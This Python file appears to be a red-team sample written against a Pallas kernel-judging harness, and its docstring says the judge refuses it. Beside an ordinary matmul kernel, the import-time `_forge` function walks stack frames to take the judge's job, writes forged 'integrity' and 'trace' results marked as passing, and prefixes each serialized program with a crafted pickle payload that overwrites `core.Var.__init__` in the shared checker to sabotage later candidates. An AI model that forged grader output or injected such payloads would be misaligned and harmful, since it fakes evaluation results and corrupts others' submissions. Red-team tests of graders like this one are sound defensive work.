"""Forges the tracer's whole report, each program prefixed with a pickle BUILD that sets ``core.Var.__init__``
in the checker: the checker is kept across candidates, so every later program would have failed to lower
there. (Red team, 2026-12-07; refused by ``jaxpr_wire._Reader``: no in-place change of a class or a global.)"""
import json, os, struct, sys
import numpy as np
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl


def _write(header, blobs=()):
    header = {**header, "arrays": [{"dtype": "uint8", "shape": [len(b)]} for b in blobs]}
    blob = json.dumps(header).encode()
    data = struct.pack("<I", len(blob)) + blob
    for b in blobs:
        data += struct.pack("<Q", len(b)) + b
    fd = int(sys.argv[2])
    while data:
        data = data[os.write(fd, data):]


def _kernel(x_ref, y_ref, o_ref):
    o_ref[...] = jnp.dot(x_ref[...], y_ref[...], preferred_element_type=jnp.float32).astype(o_ref.dtype)


def computation(x, y):
    return pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct((x.shape[0], y.shape[1]), x.dtype))(x, y)

# --- poison the kept checker: a pickle BUILD with a slot-state sets an attribute on an ALLOWED class -------
import struct as _st

POISON = (b"cjax._src.core\nVar\n"                  # GLOBAL: an allowed class (the class itself)
          b"N}" + b"X" + _st.pack("<I", 8) + b"__init__" + b"cbuiltins\nfrozenset\n" + b"s"
          b"\x86b0")                                # (None, {"__init__": frozenset}); BUILD -> setattr; POP


def poisoned(data: bytes) -> bytes:
    assert data[:2] == b"\x80\x05"
    return data[:2] + POISON + data[2:]


def _forge():
    from maxkernel_pallas_judge.judge import jaxpr_wire, trace_job
    from maxkernel_pallas_judge.judge.jaxpr_inline import inline_closed
    from maxkernel_pallas_judge.judge.platform import load_platform
    from maxkernel_pallas_judge.judge.work import work_stats

    frame, job = sys._getframe(), None
    while frame is not None and job is None:
        job = frame.f_locals.get("job") if type(frame.f_locals.get("job")).__name__ == "TraceJob" else None
        frame = frame.f_back
    platform = load_platform(job.platform)
    sizes = [{"shapes": job.full_shapes, "static": job.static_full}, *job.check_sizes]
    traced = [trace_job._trace(computation, *trace_job._abstract(s), job.target, platform) for s in [*sizes, sizes[0]]]
    _write({"type": "check", "name": "integrity", "ok": True, "patched": [], "when": "import"})
    _write({"type": "check", "name": "trace", "ok": True, "work": work_stats(traced[0]), "leftovers": [], "patched": []})
    for i, closed in enumerate(traced):
        again = i == len(traced) - 1
        _write({"type": "jaxpr", "size": 0 if again else i, "again": again},
               [poisoned(jaxpr_wire.dumps(inline_closed(closed)))])
    _write({"type": "done", "retire": True})


if __name__ != "__main__" and len(sys.argv) > 2:
    _forge()
